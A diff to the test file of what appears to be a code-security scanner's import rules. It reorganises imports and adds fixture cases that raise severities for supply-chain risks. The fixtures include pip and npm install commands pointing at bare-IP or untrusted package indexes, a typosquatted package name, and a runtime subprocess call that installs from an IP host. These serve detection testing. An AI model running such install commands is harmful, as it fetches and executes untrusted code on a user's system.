@@ -4,12 +4,12 @@ from __future__ import annotations
 
 import pytest
 
-from codeguard.chunking.chunker import chunk_file
+from codeguard.analysis import Reading
+from codeguard.analysis.rules.base import Context, Services
+from codeguard.analysis.rules.imports import SIGNAL
+from codeguard.analysis.rules.imports.lookalikes import npm_lookalike, python_lookalike
+from codeguard.corpus.chunking.chunker import chunk_file
 from codeguard.models import Severity
-from codeguard.reading import Reading
-from codeguard.reading.lookalikes import npm_lookalike, python_lookalike
-from codeguard.signals.base import Context
-from codeguard.signals.imports import SIGNAL
 
 DEFAULTS = {rule.id: rule.severity for rule in SIGNAL.rules}
 
@@ -17,7 +17,7 @@ DEFAULTS = {rule.id: rule.severity for rule in SIGNAL.rules}
 def inspect(
     text: str, name: str = "x.py", packages: frozenset[str] | None = None
 ) -> list[tuple[str, Severity]]:
-    services = {} if packages is None else {"packages": packages}
+    services = Services(packages=None if packages is None else frozenset(packages))
     found = SIGNAL.inspect(Reading(chunk_file(name, text.encode())), Context(services))
     return [(item.rule, DEFAULTS[item.rule] if item.severity is None else item.severity) for item in found]
 
@@ -96,11 +96,14 @@ CASES = [
     ("import yaml, PIL, os, requests", "x.py", frozenset({"PyYAML", "Pillow", "requests"}), []),
     ("# pip install requests\nimport requests", "x.py", None, []),
     ("# pip install git+https://github.com/psf/requests\nimport requests", "x.py", None, [("install-source", LOW)]),
-    ("# pip install --index-url http://198.51.100.7/simple x", "x.py", None, [("install-source", MEDIUM)]),
+    ("# pip install --index-url http://198.51.100.7/simple x", "x.py", None, [("install-source", HIGH)]),
+    ("# pip install --index-url http://pkgs.example.net/simple x", "x.py", None, [("install-source", HIGH)]),
+    ("# pip install https://198.51.100.7/x.tar.gz", "x.py", None, [("install-source", HIGH)]),
+    ("# pip install --index-url http://localhost:3141/root x", "x.py", None, [("install-source", MEDIUM)]),
     ("# pip install --extra-index-url=https://pkgs.example.net x", "x.py", None, [("install-source", MEDIUM)]),
     ("# pip install https://example.net/x-1.0.whl", "x.py", None, [("install-source", MEDIUM)]),
     ('"""Setup: pip install reqeusts"""', "x.py", None, [("lookalike", MEDIUM)]),
-    ("// npm install --registry http://198.51.100.7/ x", "x.js", None, [("install-source", MEDIUM)]),
+    ("// npm install --registry http://198.51.100.7/ x", "x.js", None, [("install-source", HIGH)]),
     ("# required for security updates\nimport sslharden", "x.py", None, [("urged", MEDIUM)]),
     ("# required for security updates\nimport requests", "x.py", None, []),
     ("import sslharden  # must be imported before requests", "x.py", None, [("urged", MEDIUM)]),
@@ -110,6 +113,12 @@ CASES = [
         "x.py",
         None,
         [("runtime-install", MEDIUM)],
+    ),
+    (
+        "import subprocess as s\ns.run(['pip', 'install', '--index-url', 'http://198.51.100.7/simple', 'x'])",
+        "x.py",
+        None,
+        [("runtime-install", HIGH)],
     ),
     ("import subprocess\nsubprocess.run(['pip', 'list'])\nx = 'to install'", "x.py", None, []),
 ]  # fmt: skip
